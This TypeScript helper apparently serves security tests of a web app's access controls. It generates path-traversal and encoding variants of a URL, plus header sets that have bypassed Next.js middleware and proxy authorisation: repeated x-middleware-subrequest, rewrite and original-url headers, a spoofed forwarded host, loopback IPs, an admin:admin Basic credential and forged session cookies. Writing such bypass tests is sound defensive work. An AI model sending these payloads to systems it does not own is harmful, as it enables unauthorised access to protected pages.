/** The same address, written as a server and what stands before it may read differently. */
export function pathTricks(address: string): readonly string[] {
  const rest = address.slice(1);
  const [first = "", ...others] = rest.split("/");
  const encoded = `%${first.charCodeAt(0).toString(16)}${first.slice(1)}`;
  return [
    `//${rest}`,
    `/./${rest}`,
    `${address}/`,
    `${address}/.`,
    `${address}.`,
    `${address}%20`,
    `${address}%00`,
    `${address};x=1`,
    `${address}?_rsc=1`,
    `${address}.rsc`,
    `${address}.json`,
    `/_next/data/build/${rest}.json`,
    `/${[encoded, ...others].join("/")}`,
    address.replaceAll("/", "%2F"),
    `/${rest.replaceAll("/", "%2f")}`,
    `/${rest.replaceAll("/", "//")}`,
    `/${rest.replaceAll("/", "\\")}`,
    `/${rest.toUpperCase()}`,
    `/..;/${rest}`,
    `/sign-in/..;${address}`,
    `/sign-in/..${address}`,
    `/sign-in/%2e%2e${address}`,
    `/_next/static/../..${address}`,
    `/_next/static/..%2f..%2f${rest}`,
    `/icons/..${address}`,
    `/api/health/../../${rest}`,
    `http://localhost${address}`,
  ];
}

/** Headers that have opened doors elsewhere: of Next, of proxies, of frameworks that let a header rewrite the request. */
export function headerTricks(address: string, origin: string): readonly Readonly<Record<string, string>>[] {
  const { host } = new URL(origin);
  const subrequests = ["middleware", "src/middleware", "proxy", "src/proxy", "pages/_middleware"];
  const tree = encodeURIComponent(JSON.stringify(["", { children: ["__PAGE__", {}] }, null, "refetch"]));
  return [
    ...subrequests.map((name) => ({ "x-middleware-subrequest": Array.from({ length: 5 }, () => name).join(":") })),
    { "x-middleware-next": "1", "x-middleware-rewrite": `${origin}${address}` },
    { "x-middleware-invoke": "1", "x-middleware-prefetch": "1" },
    { "x-middleware-set-cookie": "saoma-session=x; Path=/", "x-middleware-request-cookie": "saoma-session=x" },
    { "x-middleware-override-headers": "cookie", "x-invoke-path": address, "x-invoke-status": "200" },
    { "x-matched-path": address, "x-now-route-matches": "1=1" },
    { "x-original-url": address, "x-rewrite-url": address, "x-forwarded-uri": address },
    { "x-forwarded-host": "evil.example", "x-forwarded-proto": "https" },
    { "x-forwarded-host": host, "x-forwarded-for": "127.0.0.1", "x-real-ip": "127.0.0.1", forwarded: "for=127.0.0.1" },
    { "x-http-method-override": "GET", "x-method-override": "PUT", "x-http-method": "DELETE" },
    { rsc: "1" },
    { rsc: "1", "next-router-prefetch": "1" },
    { rsc: "1", "next-router-state-tree": tree },
    { rsc: "1", "next-router-prefetch": "1", "next-router-segment-prefetch": "/_tree" },
    { "x-nextjs-data": "1" },
    { "x-prerender-revalidate": "0", purpose: "prefetch" },
    { authorization: "Bearer sk_", "x-api-key": "sk_" },
    { authorization: "Basic YWRtaW46YWRtaW4=", "x-auth-user": "Amara", "x-remote-user": "Amara" },
    { cookie: "saoma-session=; saoma-device=; __Host-saoma-session=x; saoma-office=%00" },
  ];
}
